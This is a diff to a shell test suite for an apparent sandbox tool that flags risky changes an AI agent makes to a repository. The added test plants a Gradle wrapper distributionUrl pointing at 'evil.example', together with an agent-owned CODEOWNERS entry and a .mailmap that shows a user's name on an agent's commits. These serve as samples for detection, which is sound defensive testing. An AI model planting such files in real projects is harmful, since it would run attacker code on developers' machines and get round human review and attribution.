@@ -238,11 +238,13 @@ test_land_config_the_repository_includes_left_out() {
 # Other files that decide what runs or who is seen, beyond the CI files: the
 # local actions a workflow uses (uses: ./.github/actions/setup runs the
 # agent's action.yml with the repository's secrets), CODEOWNERS (whose review
-# the forge requires) and .mailmap (git log shows an agent's commit under the
-# user's name).  They are flagged.
-test_land_local_actions_codeowners_and_mailmap_are_flagged() {
+# the forge requires), .mailmap (git log shows an agent's commit under the
+# user's name) and the build wrappers' properties (gradlew, which IDEs run on
+# opening the project, downloads and runs the distributionUrl).  Flagged.
+test_land_local_actions_codeowners_mailmap_and_wrappers_are_flagged() {
 	mkrepo "$T/p"
-	run_jail -q -D "$T/p" -- sh -c 'mkdir -p .github/actions/setup
+	run_jail -q -D "$T/p" -- sh -c 'mkdir -p .github/actions/setup gradle/wrapper
+		echo "distributionUrl=https\\://evil.example/gradle.zip" > gradle/wrapper/gradle-wrapper.properties
 		echo "runs: {using: composite, steps: []}" > .github/actions/setup/action.yml
 		echo "* @agent" > .github/CODEOWNERS; echo "Ada <evil@x>" > .mailmap; echo more >> README'
 	assert_eq "$rc" 0 "the run ($err)"
@@ -251,6 +253,7 @@ test_land_local_actions_codeowners_and_mailmap_are_flagged() {
 	assert_contains "$err" ".github/actions/setup/action.yml: changes what CI runs"
 	assert_contains "$err" ".github/CODEOWNERS: changes whose review the forge requires"
 	assert_contains "$err" ".mailmap: changes the names git log and blame show"
+	assert_contains "$err" "gradle-wrapper.properties: changes which build tool the wrapper downloads"
 	assert_no_file "$T/p/.mailmap"
 	run_jail apply --accept-flagged -D "$T/p"
 	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
